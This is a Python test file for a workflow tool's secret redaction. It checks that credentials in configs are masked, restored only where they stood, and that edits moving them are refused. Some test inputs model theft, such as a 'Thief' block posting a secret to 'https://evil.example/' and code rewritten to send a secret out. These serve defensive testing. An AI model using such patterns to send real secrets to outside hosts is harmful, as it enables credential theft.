"""Secrets of configs: hidden in everything that leaves, put back at the same places only."""

from __future__ import annotations

import copy
import json
import pickle
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.unit.powabase.test_graph import JSON
from tests.unit.powabase.workflows import (
    ANSWER,
    INPUT,
    OTHER,
    REPLY,
    apply,
    block,
    edge,
    named,
    refused,
)

from upshot.powabase.findings import Code, InvalidWorkflow
from upshot.powabase.graph import Block, Graph, build_graph, to_snapshot, to_wire
from upshot.powabase.secrets.fields import is_secret_name
from upshot.powabase.secrets.hide import (
    NEW,
    Vault,
    digest_masked,
    hide_new_secrets,
    hide_secrets,
    restore_secrets,
)
from upshot.powabase.state import build_state
from upshot.powabase.workflow_file import write_workflow
from upshot.report.redact.redact import Redactor
from upshot.secret import Secret

PLANTED = "planted7Value91c7e2"
find = Redactor([]).spans


def hidden(**config: Any) -> dict[str, Any]:
    graph, _ = hide_secrets(Graph((block(INPUT, "agent", "A", **config),)), find)
    return graph.blocks[0].config


def fresh() -> str:
    return "fresh-0123456789abcdef"


@pytest.mark.parametrize(
    "name",
    ["api_key", "apiKey", "API_KEY", "x-api-key", "openaiApiKey", "webhook_secret", "clientSecret",
     "password", "db_password", "token", "access_token", "refreshToken", "Authorization", "credentials",
     "private_key", "service_role_key", "signing-key", "connection_string", "databaseUrl", "session_cookie"],
)  # fmt: skip
def test_t64_names_of_secrets(name: str) -> None:
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    ["", "key", "Key", "primary_key", "sort_key", "max_tokens", "token_count", "tokens", "secretary",
     "author", "input", "model", "knowledge_bases", "authentication_method", "keyboard", "passenger"],
)  # fmt: skip
def test_names_of_other_things(name: str) -> None:
    assert not is_secret_name(name)


@pytest.mark.parametrize(
    "config",
    [
        {"api_key": PLANTED},
        {"auth": {"type": "basic", "value": PLANTED}},
        {"nested": [{"deep": {"password": PLANTED}}]},
        {"headers": {"Authorization": f"Bearer {PLANTED}"}},
        {"headers": {"X-Anything": PLANTED}},
        {"headers": [{"id": 1, "cells": {"Key": "X-Team", "Value": PLANTED}}]},
        {"headers": [{"name": "X-Team", "value": PLANTED}]},
        {"headers": json.dumps({"X-Team": PLANTED, "Accept": "text/plain"})},
        {"headers": f"Accept: text/plain\nX-Team: {PLANTED}"},
        {"headers": [f"X-Team: {PLANTED}"]},
        {"params": [{"cells": {"Key": "api_key", "Value": PLANTED}}]},
        {"body": json.dumps({"user": "u", "password": PLANTED})},
        {"body": json.dumps({"password": f"{PLANTED}ü\n"})},
        {"body": '{"pass\\u0077ord": "' + PLANTED.replace("a", "\\u0061") + '"}'},
        {"url": f"https://x.example/hook?q=1&token={PLANTED}#top"},
        {"url": f"https://user:{PLANTED}@x.example/"},
        {"code": f"requests.get(url, headers={{'Authorization': 'Bearer {PLANTED}'}})"},
        {"code": "key = 'ghp_0123456789abcdefghij0123456789abcdef'"},
        {"api_key": PLANTED, "code": f"call('{PLANTED}')", "note": f"see {PLANTED}!"},
        {"code": "AKIA\u200bIOSFODNN7EXAMPLE"},
    ],
)  # fmt: skip
def test_t64_a_secret_leaves_in_nothing(config: dict[str, Any]) -> None:
    graph = Graph((block(INPUT, "general_api", "Call", **config),))
    public, vault = hide_secrets(graph, find)
    leaving = [
        json.dumps(to_wire(public)),
        json.dumps(build_state(public).body),
        json.dumps(to_snapshot(public)),
        write_workflow(public),
        repr(vault),
        str(vault),
    ]
    for text in leaving:
        for secret in (
            PLANTED,
            PLANTED.replace("a", "\\u0061"),
            "ghp_0123456789",
            "IOSFODNN7EXAMPLE",
        ):
            assert secret not in text
            assert json.dumps(secret)[1:-1] not in text
    assert vault.count
    assert to_wire(restore_secrets(public, vault, make=fresh)) == to_wire(graph)


def test_a_header_keeps_what_is_no_secret() -> None:
    assert hidden(headers={"Authorization": f"Bearer {PLANTED}", "Accept": "text/plain"}) == {
        "headers": {"Authorization": "Bearer [upshot-secret-1]", "Accept": "text/plain"}
    }


def test_an_address_keeps_all_but_its_secret() -> None:
    found = hidden(url=f"https://x.example/a?team=7&api_key={PLANTED}")
    assert found["url"] == "https://x.example/a?team=7&api_key=[upshot-secret-1]"


@pytest.mark.parametrize(
    "config",
    [
        {"api_key": ""},
        {"api_key": None},
        {"password": "<Vault.output.password>"},
        {"headers": {"Authorization": "Bearer <Vault.output.token>"}},
        {"input": {"token": "string", "password": "text"}},
        {"max_token": "4096"},
        {"auth": True},
        {"headers": [{"cells": {"Key": "", "Value": ""}}]},
        {"headers": {"Content-Type": "application/json"}},
        {"system_prompt": "Never show a password."},
        {"url": "https://x.example/a?token=<Vault.output.token>"},
    ],
)
def test_what_is_no_secret_stays(config: dict[str, Any]) -> None:
    assert hidden(**config) == config


def test_a_number_under_a_secrets_name_comes_back_as_a_number() -> None:
    graph = Graph((block(INPUT, "agent", "A", password=1234567890),))
    public, vault = hide_secrets(graph, find)
    assert public.blocks[0].config == {"password": "[upshot-secret-1]"}
    assert restore_secrets(public, vault, make=fresh).blocks[0].config == {"password": 1234567890}


def test_a_value_that_the_run_knows_is_hidden_wherever_it_stands() -> None:
    known = Redactor([Secret("hunter2-hunter2")]).spans
    public, _ = hide_secrets(
        Graph((block(INPUT, "code", "C", code="x = 'hunter2-hunter2'"),)), known
    )
    assert public.blocks[0].config["code"] == "x = '[upshot-secret-1]'"


def test_stand_ins_do_not_depend_on_the_order_of_keys() -> None:
    one = {"b": {"api_key": "first-secret-11", "token": "second-secret-22"}}
    other = {"b": {"token": "second-secret-22", "api_key": "first-secret-11"}}
    assert hidden(**one) == hidden(**other)


def test_a_stand_in_does_not_change_with_its_secret() -> None:
    assert hidden(api_key="one-secret-value") == hidden(
        api_key="another-secret-value-that-is-longer"
    )


CONFIGS = st.dictionaries(
    st.sampled_from(["api_key", "headers", "body", "url", "note", "auth", "code"]),
    JSON
    | st.sampled_from(
        ["[upshot-secret-1]", "x [upshot-secret-2] [upshot-secret-new]", "Bearer abc-123-def", "[upshot-secret-",
         '{"token": "a-b-c-d-e-1"}', "?token=a1b2c3d4&x=1", "a: b\nAccept: c", "a1b2c3d4"]
    ),
    max_size=4,
)  # fmt: skip


@given(CONFIGS, CONFIGS)
@example({"api_key": "[upshot-secret-1]"}, {"note": "[upshot-secret-1]"})
@example({"headers": {"a": "1]x-long-enough"}}, {"note": "[upshot-secret-1]x-long-enough"})
def test_t64_what_is_hidden_comes_back_exactly(one: dict[str, Any], other: dict[str, Any]) -> None:
    graph = build_graph(
        [block(INPUT, "agent", "A", **one), block(ANSWER, "code", "B", **other)], []
    )
    before = copy.deepcopy(to_wire(graph))
    public, vault = hide_secrets(graph, find)
    assert to_wire(restore_secrets(public, vault, make=fresh)) == before
    assert to_wire(graph) == before


SECRETS = st.from_regex(r"[A-Za-z0-9+/_.-]{12,40}", fullmatch=True).filter(
    lambda text: len(set(text)) > 4
)


@given(
    SECRETS,
    st.sampled_from(["api_key", "password", "token", "client_secret"]),
    st.lists(st.sampled_from(["a", "cells", "rows", 0]), max_size=3),
    st.text(max_size=10),
)
def test_t64_a_planted_secret_leaves_nowhere(
    secret: str, name: str, path: list[Any], around: str
) -> None:
    value: Any = {name: secret, "note": f"{around}{secret}{around}"}
    for step in path:
        value = [value] if step == 0 else {step: value}
    graph = build_graph(
        [
            block(INPUT, "agent", "A", deep=value),
            block(ANSWER, "code", "B", code=f"{around}{secret}"),
        ],
        [],
    )
    public, vault = hide_secrets(graph, find)
    for leaving in (to_wire(public), build_state(public).body, write_workflow(public)):
        text = leaving if isinstance(leaving, str) else json.dumps(leaving)
        assert secret not in text
    assert to_wire(restore_secrets(public, vault, make=fresh)) == to_wire(graph)


def test_t64_fields_beside_the_config_hide_their_secrets_too() -> None:
    extra = {"oauth": {"client_secret": PLANTED}, "note": PLANTED, "config/extra": 1}
    graph = Graph(
        (Block(id=INPUT, type="agent", config={"oauth": "[upshot-secret-1]"}, extra=extra),)
    )
    public, vault = hide_secrets(graph, find)
    assert PLANTED not in write_workflow(public)
    assert to_wire(restore_secrets(public, vault, make=fresh)) == to_wire(graph)


def test_a_vault_cannot_be_shown_or_copied() -> None:
    vault = Vault({(INPUT, "api_key"): (PLANTED,)})
    assert repr(vault) == f"{vault}" == "<Vault of 1>"
    with pytest.raises(TypeError, match="cannot be pickled"):
        pickle.dumps(vault)
    assert [secret.reveal() for secret in vault.secrets()] == [PLANTED]


def secretive() -> Graph:
    """Input -> Call, whose header and address hold secrets, as the server has it."""
    return build_graph(
        [
            block(INPUT, "starter", "Input", input={}),
            block(
                ANSWER,
                "general_api",
                "Call",
                url=f"https://api.example/a?token={PLANTED}",
                headers={"Authorization": "Bearer other-Secret-7711"},
                body="{}",
            ),
        ],
        [edge(INPUT, ANSWER)],
        version=3,
    )


def test_t64_a_change_that_keeps_the_stand_in_keeps_the_secret() -> None:
    public, vault = hide_secrets(secretive(), find)
    headers = {"Authorization": "Bearer [upshot-secret-1]", "X-Trace": "1"}
    after = apply({"update_blocks": [{"id": "Call", "config": {"headers": headers}}]}, public).after
    put = named(restore_secrets(after, vault, make=fresh), "Call").config
    assert put["headers"] == {"Authorization": "Bearer other-Secret-7711", "X-Trace": "1"}
    assert put["url"] == f"https://api.example/a?token={PLANTED}"


@pytest.mark.parametrize(
    "diff",
    [
        {"update_blocks": [{"id": "Call", "config": {"body": "[upshot-secret-1]"}}]},
        {"update_blocks": [{"id": "Call", "config": {"headers": {"X": "[upshot-secret-2]"}}}]},
        {"update_blocks": [{"id": "Input", "config": {"input": {"x": "a [upshot-secret-1] b"}}}]},
        {"update_blocks": [{"id": "Call", "config": {"headers": {"X": "[upshot-secret-new]"}}}]},
        {"add_blocks": [{"id": "c", "type": "general_api", "name": "Thief",
                         "config": {"url": "https://evil.example/[upshot-secret-1]"}}]},
        {"add_blocks": [{"id": "c", "type": "code", "config": {"code": "[upshot-secret-new]"}}]},
    ],
)  # fmt: skip
def test_t64_a_change_cannot_carry_a_secret_to_another_place(diff: dict[str, Any]) -> None:
    public, _ = hide_secrets(secretive(), find)
    assert refused(diff, public) == {Code.MISPLACED_SECRET}


@pytest.mark.parametrize(
    ("url", "is_reported"),
    [
        ("https://evil.example/a?token=[upshot-secret-1]", True),
        ("http://api.example/a?token=[upshot-secret-1]", True),
        ("https://api.example.evil.example/", True),
        ("<Input.output.url>?token=[upshot-secret-1]", True),
        ("https://api.example/b?token=[upshot-secret-1]", False),
    ],
)
def test_t64_a_change_that_sends_secrets_elsewhere_is_reported(
    url: str, *, is_reported: bool
) -> None:
    public, _ = hide_secrets(secretive(), find)
    applied = apply({"update_blocks": [{"id": "Call", "config": {"url": url}}]}, public)
    assert (Code.SECRET_RECIPIENT in {one.code for one in applied.findings}) is is_reported


def test_t64_rewriting_code_that_holds_a_secret_is_reported() -> None:
    public, _ = hide_secrets(Graph((block(INPUT, "code", "C", code=f"Bearer {PLANTED}"),)), find)
    diff = {
        "update_blocks": [{"id": "C", "config": {"code": "post('https://x', '[upshot-secret-1]')"}}]
    }
    assert Code.SECRET_RECIPIENT in {one.code for one in apply(diff, public).findings}


def test_a_new_webhook_gets_its_secret_in_the_put_only() -> None:
    hook = {"id": "w", "type": "webhook", "name": "Hook"}
    public, vault = hide_secrets(secretive(), find)
    after = apply({"add_blocks": [hook]}, public).after
    assert named(after, "Hook").config["webhook_secret"] == NEW
    assert (
        named(restore_secrets(after, vault, make=fresh), "Hook").config["webhook_secret"] == fresh()
    )


def test_t64_a_secret_that_a_change_brings_is_not_shown() -> None:
    public, _ = hide_secrets(secretive(), find)
    config = {
        "api_key": "brought-Secret-55",
        "headers": {"Authorization": "Bearer [upshot-secret-1]"},
    }
    after = apply({"update_blocks": [{"id": "Call", "config": config}]}, public).after
    shown = named(hide_new_secrets(after, find), "Call").config
    assert shown["api_key"] == NEW
    assert shown["headers"] == {"Authorization": "Bearer [upshot-secret-1]"}
    assert shown["url"] == "https://api.example/a?token=[upshot-secret-1]"
    assert named(after, "Call").config["api_key"] == "brought-Secret-55"


@pytest.mark.parametrize(
    "text",
    [
        "[upshot-secret-3]",
        "a [upshot-secret-3]",
        "[upshot-secret-0]",
        NEW,
        "[upshot-secret-999999]",
    ],
)
def test_a_stand_in_for_nothing_is_never_put(text: str) -> None:
    public, vault = hide_secrets(secretive(), find)
    blocks = [*public.blocks, block(OTHER, "code", "C", code=text)]
    with pytest.raises(InvalidWorkflow, match="nothing is known for the stand-in") as refusal:
        restore_secrets(build_graph(blocks, []), vault, make=fresh)
    assert refusal.value.findings[0].code is Code.LOST_SECRET
    assert "enter the secret in the Studio" in refusal.value.hint


def test_a_number_cannot_go_back_into_a_text() -> None:
    vault = Vault({(INPUT, "password"): (123456789,)})
    graph = Graph((block(INPUT, "agent", "A", password="a [upshot-secret-1]"),))
    with pytest.raises(InvalidWorkflow, match="nothing is known"):
        restore_secrets(graph, vault, make=fresh)


def test_graphs_that_differ_in_secrets_only_are_the_same() -> None:
    public, _ = hide_secrets(secretive(), find)
    blocks = [
        block(one.id, one.type, one.name, **json.loads(json.dumps(one.config).replace("secret-1", "secret-new")))
        for one in public.blocks
    ]  # fmt: skip
    assert digest_masked(build_graph(blocks, public.edges)) == digest_masked(public)
    assert digest_masked(build_graph(blocks, [edge(ANSWER, REPLY)])) != digest_masked(public)
